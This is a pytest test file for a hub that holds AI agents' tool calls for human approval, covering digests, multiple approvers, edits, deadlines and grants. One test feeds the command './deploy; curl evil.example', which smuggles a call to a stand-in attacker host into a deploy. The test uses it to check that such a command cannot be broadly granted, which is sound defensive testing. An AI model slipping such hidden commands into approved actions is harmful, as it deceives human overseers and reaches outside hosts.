"""Requests under the hub: digests, several approvers, edits, deadlines and grants."""

from __future__ import annotations

import asyncio
from collections.abc import AsyncIterator
from datetime import timedelta
from pathlib import Path

import pytest

from interlock.engine.agents import Agent, C, ScriptedModel, T, ToolContext, tool
from interlock.engine.approvals.open_request import expiry_reason
from interlock.engine.core import clock as clock_module
from interlock.engine.gate.types import GrantTerms
from interlock.engine.history.decisions.filter import DecisionFilter
from interlock.engine.history.journal.journal import Journal
from interlock.engine.history.model.events import (
    ApprovalDecided,
    ApprovalExpired,
    ApprovalExtended,
    ApprovalGiven,
    ApprovalRequested,
    ApprovalWithdrawn,
    CallDecided,
    GrantGiven,
    GrantRevoked,
    MessageAdded,
)
from interlock.engine.history.model.state import ApprovalState
from interlock.engine.hub.hub import ApprovalPolicy, Hub
from interlock.engine.sessions.config import SessionConfig
from interlock.rules import compile_rules
from tests.support.clock import Clock

from ..support.shop import Shop, bodies, check, start, until

ASK = "require human-approval before deploy"
TWO = "require 2 human-approvals before deploy"


@pytest.fixture
def policy() -> ApprovalPolicy:
    return ApprovalPolicy()


@pytest.fixture
async def hub(tmp_path: Path, clock: Clock, policy: ApprovalPolicy) -> AsyncIterator[Hub]:
    hub = Hub(Journal.open(tmp_path / "hub.db", clock=clock), policy=policy)
    yield hub
    await hub.close()


async def session_with_request(
    hub: Hub, shop: Shop, *replies: object, rules: str = ASK
) -> tuple[str, ApprovalState]:
    """A session whose first deploy waits for approval, and its request."""
    events = hub.subscribe()
    session = await start(hub, shop, *(replies or (C(deploy={}), T("done"))), rules=rules)  # type: ignore[arg-type]
    await until(events, ApprovalRequested)
    [request] = await hub.approvals()
    return session, request


async def opened_by(hub: Hub, shop: Shop, by: str, rules: str = TWO) -> tuple[str, ApprovalState]:
    """A session that `by` started, and the request of its deploy."""
    events = hub.subscribe()
    agent = Agent(ScriptedModel([C(deploy={}), T("done")]), name="bot", tools=shop.tools())
    session = await hub.open_session(agent, SessionConfig(compile_rules(rules).registry, by=by))
    await hub.send(session, "go", by=by)
    await until(events, ApprovalRequested)
    [request] = await hub.approvals()
    return session, request


class TestDigest:
    async def test_answer_with_the_digest_decides(self, hub: Hub, shop: Shop) -> None:
        """An answer with the request's digest decides, and the record keeps that digest."""
        session, request = await session_with_request(hub, shop)
        assert request.digest is not None
        assert (await hub.decide(request.id, approved=True, by="ada", digest=request.digest)).ok
        await hub.wait(session)
        assert shop.ran == ["deploy staging"]
        assert [d.digest for d in bodies(hub, session, ApprovalDecided)] == [request.digest]

    async def test_answer_with_another_digest_does_not_decide(self, hub: Hub, shop: Shop) -> None:
        """An answer with another digest decides nothing, and the request stays open."""
        _, request = await session_with_request(hub, shop)
        outcome = await hub.decide(request.id, approved=True, by="ada", digest="0" * 64)
        assert (outcome.ok, outcome.message) == (
            False,
            "This is not the request that was shown: look again",
        )
        assert shop.ran == []
        assert len(await hub.approvals()) == 1

    async def test_differs_with_the_input(self, hub: Hub, shop: Shop) -> None:
        """Two calls of one tool have different digests."""
        _, first = await session_with_request(hub, shop, C(deploy={"env": "a"}), T("done"))
        _, other = await another_session_with_request(hub, shop, C(deploy={"env": "b"}), T("done"))
        assert first.digest != other.digest

    @pytest.mark.parametrize("how", ["net off", "net on", "mode"])
    async def test_switched_net_or_mode_renews_the_request(self, hub: Hub, shop: Shop, how: str) -> None:
        """G-67: a switched net or mode withdraws the request, and the call gets a new one."""
        rules = f"{ASK}\nblock rm\nblock push"
        session, request = await session_with_request(hub, shop, rules=rules)
        events = hub.subscribe()
        if how == "net on":
            await hub.toggle_net(session, "block-push", False, by="ben", reason="a test")
            await until(events, ApprovalRequested)
            [request] = await hub.approvals()
        match how:
            case "net off":
                await hub.toggle_net(session, "block-rm", False, by="ben", reason="a test")
            case "net on":
                await hub.toggle_net(session, "block-push", True, by="ben")
            case _:
                await hub.set_mode(session, "shadow", by="ben", reason="a test")
        await until(events, ApprovalRequested)
        [again] = await hub.approvals()
        assert (again.call_id, again.id == request.id) == (request.call_id, False)
        assert again.digest != request.digest
        assert shop.ran == []
        late = await hub.decide(request.id, approved=True, by="ada", digest=request.digest)
        why = {
            "net off": "ben turned off block-rm",
            "net on": "ben turned on block-push",
            "mode": "ben switched to shadow mode",
        }[how]
        assert late.message == f"Withdrawn: {why}; asked again"
        assert bodies(hub, session, ApprovalWithdrawn)[-1].reason == f"{why}; asked again"
        await check(hub, session)

    @pytest.mark.parametrize("by", ["", "  "])
    async def test_extension_without_a_name_is_refused(self, hub: Hub, shop: Shop, by: str) -> None:
        """An extension without an operator's name is refused."""
        session, request = await session_with_request(hub, shop, C(deploy={}), T("done"))
        outcome = await hub.extend(request.id, seconds=3600, by=by)
        assert not outcome.ok
        assert outcome.message == "Not extended: this needs the name of an operator"
        assert bodies(hub, session, ApprovalExtended) == []
        await hub.abort(session)

    async def test_approval_allows_one_call_only(self, hub: Hub, shop: Shop) -> None:
        """An approval allows one call, not the next identical one."""
        events = hub.subscribe()
        session, request = await session_with_request(hub, shop, C(deploy={}), C(deploy={}), T("done"))
        await until(events, ApprovalRequested)
        await hub.decide(request.id, approved=True, by="ada", digest=request.digest)
        await until(events, ApprovalRequested)
        [second] = await hub.approvals()
        late = await hub.decide(request.id, approved=True, by="ada", digest=request.digest)
        assert late.message == "You have approved this: it is recorded"
        assert not late.ok
        assert second.digest != request.digest
        assert shop.ran == ["deploy staging"]
        await hub.abort(session)


async def another_session_with_request(
    hub: Hub, shop: Shop, *replies: object
) -> tuple[str, ApprovalState]:
    """Open another session whose deploy waits for approval."""
    events = hub.subscribe()
    session = await start(hub, shop, *replies, rules=ASK)  # type: ignore[arg-type]
    await until(events, ApprovalRequested)
    return session, next(a for a in await hub.approvals() if a.session == session)


class TestSeveralPeople:
    async def test_two_must_approve(self, hub: Hub, shop: Shop) -> None:
        """The call runs once two different operators have approved; the record has both."""
        session, request = await session_with_request(hub, shop, rules=TWO)
        first = await hub.decide(request.id, approved=True, by="ada", digest=request.digest)
        assert first.message == "deploy approved by ada (1 of 2); one more person must approve"
        [waiting] = await hub.approvals()
        assert (waiting.given, shop.ran) == (("ada",), [])
        await check(hub, session)
        assert (await hub.decide(request.id, approved=True, by="ben")).ok
        await hub.wait(session)
        assert shop.ran == ["deploy staging"]
        assert bodies(hub, session, CallDecided)[-1].approved_by == ("ada", "ben")
        assert [s.transition for s in bodies(hub, session, CallDecided)[-1].steps] == [
            "person",
            "person",
            "approve",
        ]
        await check(hub, session)

    async def test_same_operator_cannot_approve_twice(self, hub: Hub, shop: Shop) -> None:
        """The same operator cannot approve twice."""
        session, request = await session_with_request(hub, shop, rules=TWO)
        await hub.decide(request.id, approved=True, by="ada")
        again = await hub.decide(request.id, approved=True, by="ada")
        assert (again.ok, again.message) == (
            False,
            "ada has approved already: somebody else must approve too",
        )
        assert len(bodies(hub, session, ApprovalGiven)) == 1
        assert shop.ran == []

    async def test_one_is_enough_to_deny(self, hub: Hub, shop: Shop) -> None:
        """One denial is enough, also after an approval and also by the session's starter."""
        session, request = await opened_by(hub, shop, "mia")
        await hub.decide(request.id, approved=True, by="ada")
        assert (await hub.decide(request.id, approved=False, by="mia", reason="no")).ok
        await hub.wait(session)
        assert shop.ran == []

    async def test_session_starter_does_not_count(self, hub: Hub, shop: Shop) -> None:
        """The operator who started the session does not count among the approvers of its calls."""
        session, request = await opened_by(hub, shop, "mia")
        own = await hub.decide(request.id, approved=True, by="mia")
        assert (own.ok, own.message) == (False, "mia started this session: 2 other people must approve")
        assert not bodies(hub, session, ApprovalGiven)

    @pytest.mark.parametrize("policy", [ApprovalPolicy(own_approvals=True)])
    async def test_session_starter_counts_with_own_approvals(self, hub: Hub, shop: Shop) -> None:
        """With `own_approvals`, the operator who started the session counts."""
        session, request = await opened_by(hub, shop, "mia")
        assert (await hub.decide(request.id, approved=True, by="mia")).ok
        assert (await hub.decide(request.id, approved=True, by="ada")).ok
        await hub.wait(session)
        assert shop.ran == ["deploy staging"]

    async def test_session_starter_may_give_a_single_approval(self, hub: Hub, shop: Shop) -> None:
        """If one approval is enough, the operator who started the session may give it."""
        session, request = await opened_by(hub, shop, "mia", rules=ASK)
        assert (await hub.decide(request.id, approved=True, by="mia")).ok
        await hub.wait(session)
        assert shop.ran == ["deploy staging"]

    async def test_simultaneous_approvals_both_count(self, hub: Hub, shop: Shop) -> None:
        """Two simultaneous approvals by two operators both count."""
        session, request = await session_with_request(hub, shop, rules=TWO)
        both = await asyncio.gather(
            *(hub.decide(request.id, approved=True, by=name) for name in ("ada", "ben"))
        )
        assert all(outcome.ok for outcome in both)
        await hub.wait(session)
        assert shop.ran == ["deploy staging"]

    @pytest.mark.slow
    async def test_edit_requires_all_approvals_again(self, hub: Hub, shop: Shop) -> None:
        """After an edit, all approvers must approve again, because none of them saw that input."""
        session, request = await session_with_request(hub, shop, rules=TWO)
        await hub.decide(request.id, approved=True, by="ada")
        events = hub.subscribe()
        edit = await hub.decide(request.id, approved=True, by="ben", input={"env": "prod"})
        assert edit.ok
        await until(events, ApprovalRequested)
        [again] = await hub.approvals()
        assert (again.input, again.given) == ({"env": "prod"}, ())
        assert shop.ran == []
        for name in ("ada", "ben"):
            assert (await hub.decide(again.id, approved=True, by=name)).ok
        await hub.wait(session)
        assert shop.ran == ["deploy prod"]
        assert bodies(hub, session, CallDecided)[-1].edited
        await check(hub, session)

    async def test_edit_not_covered_by_the_rule_needs_its_approvers(self, hub: Hub, shop: Shop) -> None:
        """G-67: an edit that the rule does not cover still requires the rule's approvers."""
        rules = f'{TWO} when input.env = "prod"'
        session, request = await session_with_request(
            hub, shop, C(deploy={"env": "prod"}), T("done"), rules=rules
        )
        events = hub.subscribe()
        assert (await hub.decide(request.id, approved=True, by="ada", input={"env": "other"})).ok
        await until(events, ApprovalRequested)
        [again] = await hub.approvals()
        assert (again.input, again.edited_by, again.people) == ({"env": "other"}, "ada", 2)
        assert again.note == "the call was edited after the rule had asked"
        assert (await hub.decide(again.id, approved=True, by="ada")).ok
        assert shop.ran == []
        assert (await hub.decide(again.id, approved=True, by="ben")).ok
        await hub.wait(session)
        assert shop.ran == ["deploy other"]
        await check(hub, session)


class TestEdit:
    async def session_with_edit(
        self, hub: Hub, shop: Shop, rules: str = TWO
    ) -> tuple[str, ApprovalState]:
        """A session whose deploy to `prod` ada edited to `staging`, and the request for the edit."""
        session, request = await session_with_request(
            hub, shop, C(deploy={"env": "prod"}), T("done"), rules=rules
        )
        events = hub.subscribe()
        assert (await hub.decide(request.id, approved=True, by="ada", input={"env": "staging"})).ok
        await until(events, ApprovalRequested)
        [again] = await hub.approvals()
        return session, again

    async def renew_request(self, hub: Hub, session: str) -> ApprovalState:
        """Switch a net and return the renewed request."""
        events = hub.subscribe()
        active = "block-rm" in (await hub.session(session)).active
        assert (await hub.toggle_net(session, "block-rm", not active, by="eve", reason="for now")).ok
        await until(events, ApprovalRequested)
        [request] = await hub.approvals()
        return request

    async def test_renewed_request_keeps_the_edit(self, hub: Hub, shop: Shop) -> None:
        """G-75: a renewed request keeps the edited input and its editor, and that input runs."""
        session, request = await self.session_with_edit(hub, shop, f"{TWO}\nblock rm")
        for _ in range(2):
            request = await self.renew_request(hub, session)
            assert (request.input, request.original) == ({"env": "staging"}, {"env": "prod"})
            assert (request.edited_by, request.given) == ("ada", ())
        for name in ("ben", "cy"):
            assert (await hub.decide(request.id, approved=True, by=name)).ok
        await hub.wait(session)
        assert shop.ran == ["deploy staging"]
        [decided] = bodies(hub, session, CallDecided)
        assert (decided.input, decided.edited, decided.edited_by) == (
            {"env": "staging"},
            True,
            "ada",
        )
        [call] = (await hub.session(session)).calls.values()
        assert (call.original, call.edited_by) == ({"env": "prod"}, "ada")
        told = [m.text for m in bodies(hub, session, MessageAdded) if m.role == "tool"]
        assert 'A person changed env from "prod" to "staging"' in told[0]
        await check(hub, session)

    async def test_edit_stays_when_other_rule_is_renewed(self, hub: Hub, shop: Shop) -> None:
        """G-75: an edit approved for one rule stays when the other rule's request is renewed."""
        rules = f"{ASK}\nrequire human-approval before deploy risk high\nblock rm"
        session, request = await self.session_with_edit(hub, shop, rules)
        assert (request.original, request.edited_by) == ({"env": "prod"}, "ada")
        request = await self.renew_request(hub, session)
        assert (request.input, request.original) == ({"env": "staging"}, {"env": "prod"})

    @pytest.mark.slow
    async def test_denied_edit_blocks_the_call(self, hub: Hub, shop: Shop) -> None:
        """G-75: denying an edit blocks the call; the agent's own input is not requested again."""
        session, request = await self.session_with_edit(hub, shop)
        assert (await hub.decide(request.id, approved=False, by="ben")).ok
        await hub.wait(session)
        assert shop.ran == []
        assert not await hub.approvals()
        [decided] = bodies(hub, session, CallDecided)
        assert (decided.outcome, decided.edited_by) == ("block", "ada")

    @pytest.mark.slow
    async def test_edit_back_to_the_agents_input(self, hub: Hub, shop: Shop) -> None:
        """G-75: editing back to the agent's input opens a request without an edit."""
        session, request = await self.session_with_edit(hub, shop)
        events = hub.subscribe()
        assert (await hub.decide(request.id, approved=True, by="ben", input={"env": "prod"})).ok
        await until(events, ApprovalRequested)
        [again] = await hub.approvals()
        assert (again.input, again.original, again.edited_by) == ({"env": "prod"}, None, None)
        for name in ("ben", "cy"):
            assert (await hub.decide(again.id, approved=True, by=name)).ok
        await hub.wait(session)
        assert shop.ran == ["deploy prod"]
        assert not bodies(hub, session, CallDecided)[0].edited

    @pytest.mark.slow
    @pytest.mark.parametrize("crashed", ["after the edit", "while asked anew", "between two answers"])
    async def test_edit_survives_a_crash(self, tmp_path: Path, shop: Shop, crashed: str) -> None:
        """G-75: after a crash, a resumed session requests approval of the latest edited input."""
        hub = Hub(Journal.open(tmp_path / "first.db"))
        two = crashed == "between two answers"
        rules = f"{ASK}\nrequire human-approval before deploy risk high" if two else TWO
        session, _ = await self.session_with_edit(hub, shop, rules)
        events = await hub.recorded(session)
        last = ApprovalDecided if two else ApprovalWithdrawn
        edit = next(n for n, each in enumerate(events, 1) if isinstance(each.body, last))
        kept = events if crashed == "while asked anew" else events[:edit]
        with Journal.open(tmp_path / "second.db") as journal:
            journal.write(session, *(each.body for each in kept))
        await hub.close()
        hub = Hub.open(tmp_path / "second.db")
        agent = Agent(ScriptedModel([T("done")]), name="bot", tools=shop.tools())
        asking = hub.subscribe()
        await hub.resume_session(session, agent, SessionConfig(compile_rules(rules).registry, by="zoe"))
        await until(asking, ApprovalRequested)
        [request] = await hub.approvals()
        assert (request.input, request.original) == ({"env": "staging"}, {"env": "prod"})
        assert request.edited_by == "ada"
        for name in ("ben", "cy"):
            [request] = await hub.approvals()
            asking = hub.subscribe()
            assert (await hub.decide(request.id, approved=True, by=name)).ok
            if two and name == "ben":
                await until(asking, ApprovalRequested)
        await hub.wait(session)
        assert shop.ran == ["deploy staging"]
        assert bodies(hub, session, CallDecided)[-1].edited_by == "ada"
        await check(hub, session)
        await hub.close()

    @pytest.mark.slow
    async def test_original_input_is_masked(self, hub: Hub, shop: Shop) -> None:
        """G-75: the agent's original input is masked like the edited one."""
        secret = "sk-proj-" + "Ab3dE5gH7jK9mN1p" * 3
        _, request = await session_with_request(
            hub, shop, C(deploy={"env": secret}), T("done"), rules=TWO
        )
        events = hub.subscribe()
        assert (await hub.decide(request.id, approved=True, by="ada", input={"env": "staging"})).ok
        await until(events, ApprovalRequested)
        [again] = await hub.approvals()
        assert again.original is not None
        assert secret not in str(again)
        assert again.original["env"] != "staging"


class TestTime:
    RULES = f"{ASK} within 15m"

    async def test_deadline_comes_from_the_rule(self, hub: Hub, shop: Shop, clock: Clock) -> None:
        """The deadline of a request comes from its rule."""
        _, request = await session_with_request(hub, shop, rules=self.RULES)
        assert request.expires == clock.now + timedelta(minutes=15)

    async def test_no_deadline_by_default(self, hub: Hub, shop: Shop) -> None:
        """Without a rule or policy a request does not expire."""
        _, request = await session_with_request(hub, shop)
        assert request.expires is None

    @pytest.mark.parametrize("policy", [ApprovalPolicy(expire=60)])
    async def test_policy_is_the_default(self, hub: Hub, shop: Shop, clock: Clock) -> None:
        """If the rule has no deadline, the policy's applies."""
        _, request = await session_with_request(hub, shop)
        assert request.expires == clock.now + timedelta(seconds=60)

    @pytest.mark.parametrize("policy", [ApprovalPolicy(expire=0.05)])
    async def test_denied_after_the_deadline(
        self, hub: Hub, shop: Shop, clock: Clock, policy: ApprovalPolicy
    ) -> None:
        """If no operator decides in time, the call is denied with a reason for the model."""
        events = hub.subscribe()
        session, request = await session_with_request(hub, shop)
        clock.advance(0.06)
        await until(events, ApprovalExpired)
        await hub.wait(session)
        assert shop.ran == []
        told = [m.text for m in bodies(hub, session, MessageAdded) if m.role == "tool"][-1]
        assert told == "deploy was rejected by human review: nobody decided within 0.05 s (<rules>:1)"
        late = await hub.decide(request.id, approved=True, by="ada")
        assert late.message == "Too late: nobody decided within 0.05 s (<rules>:1)"
        await check(hub, session)

    async def test_answer_after_the_deadline_is_too_late(
        self, hub: Hub, shop: Shop, clock: Clock
    ) -> None:
        """If the clock passes the deadline before the timer fires, an answer is too late."""
        session, request = await session_with_request(hub, shop, rules=self.RULES)
        clock.advance(900)
        late = await hub.decide(request.id, approved=True, by="ada")
        assert not late.ok
        assert late.message.startswith("Too late: nobody decided within 15 min")
        assert shop.ran == []
        await hub.abort(session)

    async def test_deadline_noticed_late_does_not_blame_operators(
        self, hub: Hub, shop: Shop, clock: Clock
    ) -> None:
        """If a server was paused over a deadline, its reason does not say that nobody decided."""
        session, request = await session_with_request(hub, shop, rules=self.RULES)
        clock.advance(908)
        late = await hub.decide(request.id, approved=True, by="ada")
        assert late.message == (
            "Too late: no decision was recorded within 15 min (<rules>:1), and its server could act on "
            "that only 8 s later"
        )
        assert shop.ran == []
        await hub.abort(session)

    async def test_stated_time_includes_delay_of_recording(self, hub: Hub, shop: Shop) -> None:
        """A request that was recorded 0.4 s after its deadline was set names the rule's whole time."""
        session, request = await session_with_request(hub, shop, rules=self.RULES)
        assert request.expires is not None
        since = request.expires - timedelta(seconds=899.6)
        reason = expiry_reason(request, since, request.expires)
        assert reason == "nobody decided within 15 min (<rules>:1)"
        await hub.abort(session)

    async def test_denies_soon_after_the_clock_was_set_or_the_machine_slept(
        self, hub: Hub, shop: Shop, clock: Clock, monkeypatch: pytest.MonkeyPatch
    ) -> None:
        """The deadline is noticed although the timer of a quarter of an hour has not run out."""
        monkeypatch.setattr(clock_module, "LOOK_AGAIN", 0.05)
        events = hub.subscribe()
        session, request = await session_with_request(hub, shop, rules=self.RULES)
        waiting = hub._live.hosted(session).questions.table.open[request.id]
        async with asyncio.timeout(10):
            while waiting.timer is None:  # noqa: ASYNC110 - it is set once the request is recorded
                await asyncio.sleep(0)
            clock.advance(900)
            await until(events, ApprovalExpired)
        await hub.wait(session)
        assert shop.ran == []
        await check(hub, session)

    @pytest.mark.parametrize("policy", [ApprovalPolicy(expire=0.05)])
    async def test_early_timer_does_not_deny(self, hub: Hub, shop: Shop, policy: ApprovalPolicy) -> None:
        """A timer that fires early by the journal's clock does not deny the request."""
        session, request = await session_with_request(hub, shop)
        await asyncio.sleep(0.2)
        assert [a.id for a in await hub.approvals()] == [request.id]
        assert (await hub.decide(request.id, approved=True, by="ada")).ok
        await hub.wait(session)
        assert shop.ran == ["deploy staging"]

    async def test_can_be_extended(self, hub: Hub, shop: Shop, clock: Clock) -> None:
        """An extension counts from now, is recorded, and lets a later answer count."""
        session, request = await session_with_request(hub, shop, rules=self.RULES)
        clock.advance(600)
        outcome = await hub.extend(request.id, seconds=900, by="ben")
        assert (outcome.ok, outcome.message) == (True, "deploy now expires in 15 min")
        assert (await hub.approvals())[0].expires == clock.now + timedelta(seconds=900)
        [event] = bodies(hub, session, ApprovalExtended)
        assert event.by == "ben"
        clock.advance(600)
        assert (await hub.decide(request.id, approved=True, by="ada")).ok
        await hub.wait(session)
        assert shop.ran == ["deploy staging"]

    async def test_deadline_can_be_removed(self, hub: Hub, shop: Shop) -> None:
        """An extension without an end removes the deadline."""
        _, request = await session_with_request(hub, shop, rules=self.RULES)
        assert (await hub.extend(request.id, seconds=None, by="ben")).ok
        assert (await hub.approvals())[0].expires is None

    @pytest.mark.parametrize("seconds", [0, -1, 1e9, float("nan")])
    async def test_invalid_duration_changes_nothing(self, hub: Hub, shop: Shop, seconds: float) -> None:
        """An invalid duration changes nothing."""
        _, request = await session_with_request(hub, shop, rules=self.RULES)
        assert not (await hub.extend(request.id, seconds=seconds, by="ben")).ok
        assert (await hub.approvals())[0].expires == request.expires

    async def test_expired_request_cannot_be_extended(self, hub: Hub, shop: Shop, clock: Clock) -> None:
        """An expired or unknown request cannot be extended."""
        _, request = await session_with_request(hub, shop, rules=self.RULES)
        clock.advance(901)
        assert not (await hub.extend(request.id, seconds=60, by="ben")).ok
        assert not (await hub.extend("nothing", seconds=60, by="ben")).ok


class TestGrants:
    THRICE = (C(deploy={}), C(deploy={}), C(deploy={"env": "prod"}), T("done"))

    async def test_grant_allows_later_calls(self, hub: Hub, shop: Shop) -> None:
        """A grant allows later calls without a request; the decisions and nets record each use."""
        session, request = await session_with_request(hub, shop, *(C(deploy={}),) * 3, T("done"))
        outcome = await hub.decide(
            request.id, approved=True, by="ada", grant=GrantTerms("names", uses=2), reason="often"
        )
        assert outcome.ok
        await hub.wait(session)
        assert shop.ran == ["deploy staging"] * 3
        assert [d.granted for d in bodies(hub, session, CallDecided)] == [(), ("grant-1",), ("grant-1",)]
        [given] = bodies(hub, session, GrantGiven)
        assert (given.by, given.grant.uses, given.grant.asks) == ("ada", 2, "approve-before-deploy")
        state = (await hub.session(session)).grants["grant-1"]
        assert state.net.marking == {"granted": 0, "used": 2, "ended": 0}
        await check(hub, session)

    async def test_value_not_read_by_a_map_is_not_covered(self, hub: Hub, shop: Shop) -> None:
        """A grant by names covers only the values shown if no map names them (G-74)."""
        events = hub.subscribe()
        session, request = await session_with_request(hub, shop, *self.THRICE)
        await hub.decide(request.id, approved=True, by="ada", grant=GrantTerms("names"), reason="often")
        await until(events, ApprovalRequested)
        await until(events, ApprovalRequested)
        [again] = await hub.approvals()
        assert (again.input, shop.ran) == ({"env": "prod"}, ["deploy staging", "deploy staging"])
        await hub.abort(session)

    @pytest.mark.slow
    async def test_for_one_input_only(self, hub: Hub, shop: Shop) -> None:
        """A grant for an exact input requires approval of any other input."""
        events = hub.subscribe()
        session, request = await session_with_request(hub, shop, *self.THRICE)
        await hub.decide(request.id, approved=True, by="ada", grant=GrantTerms("input"), reason="often")
        await until(events, ApprovalRequested)
        await until(events, ApprovalRequested)
        [again] = await hub.approvals()
        assert (again.input, shop.ran) == ({"env": "prod"}, ["deploy staging", "deploy staging"])
        assert bodies(hub, session, GrantGiven)[0].input == {}
        await hub.abort(session)

    @pytest.mark.slow
    async def test_ends_when_it_is_revoked(self, hub: Hub, shop: Shop) -> None:
        """After a grant is revoked, the next call requires approval; the record names the revoker."""
        events = hub.subscribe()
        session, request = await session_with_request(
            hub, shop, C(deploy={}), T("first"), C(deploy={}), T("done")
        )
        await hub.decide(request.id, approved=True, by="ada", grant=GrantTerms("names"), reason="often")
        await hub.wait(session)
        assert (await hub.revoke_grant(session, "grant-1", by="ben")).message == "grant-1 revoked by ben"
        assert not (await hub.revoke_grant(session, "grant-1", by="ben")).ok
        await hub.send(session, "again", by="ada")
        await until(events, ApprovalRequested)
        await until(events, ApprovalRequested)
        assert [r.by for r in bodies(hub, session, GrantRevoked)] == ["ben"]
        assert shop.ran == ["deploy staging"]
        await hub.abort(session)
        await hub.wait(session)
        await check(hub, session)

    @pytest.mark.slow
    async def test_grant_ends_after_its_time(self, hub: Hub, shop: Shop, clock: Clock) -> None:
        """A grant of 1800 s ends after 1800 s by the journal's clock."""
        events = hub.subscribe()
        replies = (C(deploy={}), T("first"), C(deploy={}), T("second"), C(deploy={}), T("done"))
        session, request = await session_with_request(hub, shop, *replies)
        grant = GrantTerms("names", seconds=1800)
        await hub.decide(request.id, approved=True, by="ada", grant=grant, reason="often")
        await hub.wait(session)
        clock.advance(1700)
        await hub.send(session, "again", by="ada")
        await hub.wait(session)
        assert shop.ran == ["deploy staging"] * 2
        clock.advance(200)
        await until(events, ApprovalRequested)
        await hub.send(session, "again", by="ada")
        await until(events, ApprovalRequested)
        assert shop.ran == ["deploy staging"] * 2
        await hub.abort(session)
        await hub.wait(session)
        await check(hub, session)

    @pytest.mark.parametrize("rules", [f"{ASK} risk high no grants", TWO])
    async def test_rule_can_forbid_grants(self, hub: Hub, shop: Shop, rules: str) -> None:
        """A rule can forbid grants, and a rule for several approvers allows none."""
        _, request = await session_with_request(hub, shop, rules=rules)
        assert not request.may_grant
        outcome = await hub.decide(
            request.id, approved=True, by="ada", grant=GrantTerms("names"), reason="often"
        )
        assert (outcome.ok, shop.ran) == (False, [])
        assert len(await hub.approvals()) == 1

    async def test_grant_without_a_reason_is_refused(self, hub: Hub, shop: Shop) -> None:
        """G-67: a grant without a reason is refused with the approval; a reason is recorded."""
        session, request = await session_with_request(hub, shop, *(C(deploy={}),) * 2, T("done"))
        for reason in (None, "", "  "):
            refused = await hub.decide(
                request.id, approved=True, by="ada", grant=GrantTerms("names"), reason=reason
            )
            assert (refused.ok, "say why" in refused.message) == (False, True)
        assert shop.ran == []
        given = await hub.decide(
            request.id, approved=True, by="ada", grant=GrantTerms("names"), reason="release night"
        )
        assert given.ok
        await hub.wait(session)
        assert [body.reason for body in bodies(hub, session, GrantGiven)] == ["release night"]
        assert (await hub.session(session)).grants["grant-1"].reason == "release night"
        found = await hub.scan_decisions(DecisionFilter(kinds=("grant",), people=("ada",)))
        [row] = await hub.read_decisions(DecisionFilter(kinds=("grant",)), found.parts[0])
        assert row.input.endswith(": release night")
        await check(hub, session)

    async def test_session_starter_cannot_grant_high_risk(self, hub: Hub, shop: Shop) -> None:
        """G-67: the session's starter cannot grant for a high-risk rule; another operator can."""
        _, request = await opened_by(hub, shop, "mia", f"{ASK} risk high")
        terms = GrantTerms("names")
        own = await hub.decide(request.id, approved=True, by="MIA", grant=terms, reason="often")
        assert (own.ok, "another person must grant" in own.message, shop.ran) == (False, True, [])
        assert (await hub.decide(request.id, approved=True, by="ada", grant=terms, reason="often")).ok

    @pytest.mark.slow
    async def test_command_beyond_its_names_needs_exact_input(self, hub: Hub, shop: Shop) -> None:
        """A shell command that does more than its mapped names say can be granted only by exact input."""
        rules = "map bash.command ./deploy as deploy\nrequire human-approval before deploy"
        events = hub.subscribe()
        ran: list[str] = []

        @tool(name="bash")
        async def bash(ctx: ToolContext, command: str) -> str:
            """Run a command."""
            ran.append(command)
            return "ok"

        more, plain = "./deploy; curl evil.example", "./deploy prod"
        calls = [C(bash={"command": text}) for text in (more, plain, "./deploy stage", more)]
        agent = Agent(ScriptedModel([*calls, T("done")]), name="bot", tools=[bash])
        session = await hub.open_session(agent, SessionConfig(compile_rules(rules).registry))
        await hub.send(session, "go", by="mia")
        await until(events, ApprovalRequested)
        [request] = await hub.approvals()
        assert request.exact_only == "the command runs more than its effects name"
        outcome = await hub.decide(
            request.id, approved=True, by="ada", grant=GrantTerms("names"), reason="often"
        )
        assert (outcome.ok, ran) == (
            False,
            [],
        )
        assert outcome.message == (
            "Only this exact input can be granted: the command runs more than its effects name"
        )
        assert (await hub.decide(request.id, approved=True, by="ada")).ok
        await until(events, ApprovalRequested)
        [request] = await hub.approvals()
        assert (
            await hub.decide(
                request.id, approved=True, by="ada", grant=GrantTerms("names"), reason="often"
            )
        ).ok
        await until(events, ApprovalRequested)
        assert ran == [more, plain, "./deploy stage"]
        await hub.abort(session)

    async def test_resumed_session_keeps_its_grants(self, hub: Hub, shop: Shop) -> None:
        """A resumed session keeps its grants with their remaining uses."""
        replies = (C(deploy={}), T("one"), C(deploy={}), T("two"), C(deploy={}), T("three"))
        session, request = await session_with_request(hub, shop, *replies[:2])
        await hub.decide(
            request.id, approved=True, by="ada", grant=GrantTerms("names", uses=1), reason="often"
        )
        await hub.wait(session)
        await hub.close_session(session, by="ada")
        agent = Agent(ScriptedModel(list(replies[2:])), name="bot", tools=shop.tools())
        await hub.resume_session(session, agent, SessionConfig(compile_rules(ASK).registry, by="ada"))
        await check(hub, session)
        await hub.send(session, "again", by="ada")
        await hub.wait(session)
        assert shop.ran == ["deploy staging"] * 2
        events = hub.subscribe()
        await hub.send(session, "again", by="ada")
        await until(events, ApprovalRequested)
        assert shop.ran == ["deploy staging"] * 2
        await hub.abort(session)
        await hub.wait(session)
        await check(hub, session)

    async def test_changed_rule_ends_its_grants(self, hub: Hub, shop: Shop) -> None:
        """A session resumed with a changed rule loses the grants of the former rule."""
        session, request = await session_with_request(hub, shop)
        await hub.decide(request.id, approved=True, by="ada", grant=GrantTerms("names"), reason="often")
        await hub.wait(session)
        await hub.close_session(session, by="ada")
        events = hub.subscribe()
        agent = Agent(ScriptedModel([C(deploy={}), T("done")]), name="bot", tools=shop.tools())
        stricter = compile_rules(f"{ASK} risk high").registry
        await hub.resume_session(session, agent, SessionConfig(stricter, by="ada"))
        await hub.send(session, "again", by="ada")
        await until(events, ApprovalRequested)
        assert shop.ran == ["deploy staging"]
        await hub.abort(session)


class TestStop:
    async def test_denial_with_stop_ends_the_run(self, hub: Hub, shop: Shop) -> None:
        """A denial with `stop` also ends the agent's run; the session remains."""
        session, request = await session_with_request(hub, shop, C(deploy={}), C(deploy={}), T("done"))
        outcome = await hub.decide(request.id, approved=False, by="ada", reason="enough", stop=True)
        assert (outcome.ok, outcome.message) == (True, f"deploy denied by ada; {session} stopped")
        await hub.wait(session)
        assert shop.ran == []
        assert len(bodies(hub, session, ApprovalRequested)) == 1
        assert (await hub.session(session)).status == "idle"


class TestWindow:
    async def test_uses_return_after_an_hour(self, hub: Hub, shop: Shop, clock: Clock) -> None:
        """A limit per hour blocks the third deploy and allows another after an hour."""
